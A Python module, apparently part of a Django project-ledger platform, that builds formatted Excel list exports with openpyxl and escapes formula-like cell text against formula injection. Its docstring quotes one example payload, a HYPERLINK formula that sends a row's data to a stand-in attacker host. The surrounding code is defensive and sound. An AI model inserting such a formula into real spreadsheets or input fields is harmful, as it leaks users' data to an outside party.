"""The one way an .xlsx file leaves the platform: every list export is a `ListSheet` of a `new_book()`,
and every workbook (exports and templates) is saved through `to_bytes`.

A list export has the layout a bureau forwards upward:

    row 1  the title across the table            沙坪坝区项目台账
    row 2  the unit and the cut-off               单位：万元　数据截至：2026-12-07 12:50:03
    row 3  the header; an amount names its unit  项目编号 | 项目名称 | … | 合同投资额（万元） | …
    row 4… the records, every cell bordered

printed landscape on A4, fitted to the page width, the header row repeated on every page and the page
number in the footer; the header is frozen on screen. The workbook is written in streaming (write-only)
mode, so a whole city's ledger fits in memory; the import reads such a sheet back as it is (it finds the
header under the title rows and reads the unit from each amount header).

A cell whose text starts with = + - @ would be taken by Excel or WPS as a formula (formula injection: a
project named ``=HYPERLINK("https://evil.example/?"&A1,"点击")`` becomes a live link that sends the row
away). Such text is written as text: a string cell with Excel's quote prefix, so it stays text even when
a user edits it. The value itself is unchanged, so an exported list still imports back as it was.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any

from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Alignment, Border, Font, NamedStyle, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet

from zhaoshang.core.localtime import local_text

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

MONEY = "#,##0.00"
INTEGER = "#,##0"
RATIO = "0.0%"
DATE = "yyyy-mm-dd"
DATETIME = "yyyy-mm-dd hh:mm:ss"
GENERAL = "General"

TITLE_ROW, UNIT_ROW, HEADER_ROW = 1, 2, 3
FIRST_RECORD_ROW = HEADER_ROW + 1
_THIN = Side(style="thin", color="000000")
BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
HEADER_FILL = PatternFill("solid", fgColor="EEF2F7")
FONT = "宋体"
_TITLE, _NOTE, _HEADER, _CELL = "表格标题", "表格说明", "表格表头", "表格正文"


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def as_text(cell: Cell) -> Cell:
    """Make a cell holding formula-like text a plain string cell (no-op for any other cell)."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def cells(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append` in a write-only workbook (whose cells cannot be revisited before saving):
    formula-like text as text cells, everything else as given."""
    return [as_text(WriteOnlyCell(sheet, value=v)) if is_formula_like(v) else v for v in values]


@dataclass(frozen=True)
class Heading:
    """A column of a list export: its header text, the unit its numbers are in (shown in the header:
    合同投资额（亿元）), the number format of its cells and its width in characters (0: from the header)."""

    text: str
    unit: str = ""
    number_format: str = GENERAL
    width: int = 0

    def __post_init__(self) -> None:
        if self.number_format == MONEY and not self.unit:
            raise ValueError(f"the amount column {self.text!r} names no unit")

    @property
    def label(self) -> str:
        return f"{self.text}（{self.unit}）" if self.unit else self.text


def money(text: str, unit: str, width: int = 0) -> Heading:
    """An amount column: two decimals, thousands separated, its unit in the header."""
    return Heading(text, unit, MONEY, width)


def _heading(value: Heading | str) -> Heading:
    return value if isinstance(value, Heading) else Heading(str(value))


def _named(book: Workbook, name: str, **style: Any) -> str:
    if name not in book.named_styles:
        book.add_named_style(NamedStyle(name=name, **style))
    return name


def _cell_style(book: Workbook, number_format: str) -> str:
    """The body style of one number format (a named style: assigning one is cheap per cell)."""
    name = _CELL if number_format == GENERAL else f"{_CELL} {number_format}"
    horizontal = "left" if number_format == GENERAL else "right"
    return _named(
        book,
        name,
        font=Font(name=FONT, size=10),
        border=BORDER,
        number_format=number_format,
        alignment=Alignment(horizontal=horizontal, vertical="center", wrap_text=True),
    )


def new_book() -> Workbook:
    """A workbook for list exports (streaming: rows are written as they come and never revisited)."""
    return Workbook(write_only=True)


def cut_off_text() -> str:
    return _("数据截至：%(time)s") % {"time": local_text()}


class ListSheet:
    """One sheet of a list export in the bureau layout; `append` its records, then save the book with
    `to_bytes`. `unit` is the sheet's money unit for the unit row ("" when the sheet has no amounts);
    `note` adds to that row (统计期间：2022年上半年)."""

    def __init__(
        self,
        book: Workbook,
        name: str,
        *,
        title: str,
        headings: Sequence[Heading | str],
        unit: str = "",
        note: str = "",
    ) -> None:
        if not book.write_only:
            raise ValueError("list sheets stream: create the workbook with new_book()")
        self.book, self.headings = book, [_heading(h) for h in headings]
        self.sheet = sheet = book.create_sheet(name[:31])
        # Each column's style as a ready style array, copied into every cell of the column: assigning the
        # named style per cell would look it up by name each time (a quarter of the export's time).
        self._styles = [self._styled(None, _cell_style(book, h.number_format))._style for h in self.headings]
        self._dated = [h.number_format == GENERAL for h in self.headings]
        width = len(self.headings)
        last = get_column_letter(width)
        for index, heading in enumerate(self.headings, start=1):
            shown = heading.width or min(40, max(10, _display_width(heading.label) + 2))
            sheet.column_dimensions[get_column_letter(index)].width = shown
        sheet.row_dimensions[TITLE_ROW].height = 30
        sheet.freeze_panes = f"A{FIRST_RECORD_ROW}"
        sheet.print_title_rows = f"{HEADER_ROW}:{HEADER_ROW}"
        sheet.page_setup.orientation = "landscape"
        sheet.page_setup.paperSize = Worksheet.PAPERSIZE_A4
        sheet.page_setup.fitToWidth = 1
        sheet.page_setup.fitToHeight = 0  # as many pages down as the records need
        sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
        sheet.print_options.horizontalCentered = True
        sheet.oddFooter.center.text = _("第 &P 页，共 &N 页")
        if width > 1:
            sheet.merged_cells.add(f"A{TITLE_ROW}:{last}{TITLE_ROW}")
            sheet.merged_cells.add(f"A{UNIT_ROW}:{last}{UNIT_ROW}")
        title_style = _named(
            book,
            _TITLE,
            font=Font(name=FONT, size=16, bold=True),
            alignment=Alignment(horizontal="center", vertical="center"),
        )
        note_style = _named(book, _NOTE, font=Font(name=FONT, size=10))
        header_style = _named(
            book,
            _HEADER,
            font=Font(name=FONT, size=10, bold=True),
            fill=HEADER_FILL,
            border=BORDER,
            alignment=Alignment(horizontal="center", vertical="center", wrap_text=True),
        )
        sheet.append([self._styled(title, title_style)])
        line = "　".join(
            p for p in (_("单位：%(unit)s") % {"unit": unit} if unit else "", note, cut_off_text()) if p
        )
        sheet.append([self._styled(line, note_style)])
        sheet.append([self._styled(h.label, header_style) for h in self.headings])

    def _styled(self, value: Any, style: str) -> WriteOnlyCell:
        cell = WriteOnlyCell(self.sheet, value=value)
        cell.style = style
        return as_text(cell)

    def append(self, values: Iterable[Any], *, formats: Sequence[str | None] = ()) -> None:
        """One record: every cell bordered and in its column's number format (or the one `formats` gives
        for this row's cell, for a column whose unit changes by row); formula-like text as text."""
        row = []
        for index, (value, style, dated) in enumerate(zip(values, self._styles, self._dated, strict=True)):
            cell = Cell(self.sheet, row=1, column=1, value=value, style_array=style)  # as WriteOnlyCell
            if index < len(formats) and formats[index]:
                cell.number_format = formats[index]
            elif dated and isinstance(value, date):
                cell.number_format = DATETIME if isinstance(value, datetime) else DATE
            row.append(as_text(cell))
        self.sheet.append(row)


def _display_width(text: str) -> int:
    """Columns of text on screen: a Chinese character is two."""
    return sum(2 if ord(ch) > 0x2E7F else 1 for ch in text)


def notes_sheet(book: Workbook, name: str, lines: Iterable[Sequence[Any]]) -> None:
    """A plain sheet of key/value lines (说明) beside the lists."""
    sheet = book.create_sheet(name[:31])
    sheet.column_dimensions["A"].width = 16
    sheet.column_dimensions["B"].width = 60
    for line in lines:
        sheet.append(cells(sheet, line))


def to_bytes(book: Workbook) -> bytes:
    """Save a workbook; in a normal (not write-only) workbook every formula-like text becomes text first.
    Write-only workbooks must build their rows with `cells` or `ListSheet`."""
    if not book.write_only:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or is_formula_like(cell.value):
                        as_text(cell)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
